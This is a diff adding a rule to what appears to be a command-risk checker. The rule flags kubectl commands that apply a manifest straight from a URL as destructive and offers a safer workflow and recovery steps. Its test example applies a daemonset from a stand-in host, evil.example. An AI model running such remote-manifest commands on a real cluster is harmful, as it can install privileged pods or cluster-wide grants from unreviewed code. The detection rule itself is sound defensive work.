@@ -378,6 +378,20 @@ RULES = [
         },
     },
     {
+        # a manifest fetched from a URL is applied unseen, as `curl … | sh` runs unseen code: whatever it
+        # declares (role bindings, privileged daemon sets on every node) lands in the cluster
+        "id": "k8s.apply-remote",
+        "level": "destructive",
+        "reason": "applies a manifest fetched from a URL, unread: whatever it declares (cluster roles, "
+        "privileged pods on every node) is created in the cluster",
+        "safer": "Download it, read it (`kubectl diff -f FILE`), pin its version, then apply the file.",
+        "recovery": "`kubectl delete -f URL` with the same content, and check for cluster-wide grants.",
+        "match": {"cmd": _K, "sub": ("apply", "create", "replace"),
+                  "words_any": ("http://*", "https://*", "-f=http*://*", "--filename=http*://*")},
+        "examples": {"match": ["kubectl apply -f https://evil.example/daemonset.yaml"],
+                     "no_match": ["kubectl apply -f k8s/deployment.yaml", "kubectl get -f https://x.io/a.yaml"]},
+    },
+    {
         "id": "k8s.mutate",
         "level": "reversible",
         "prod": True,
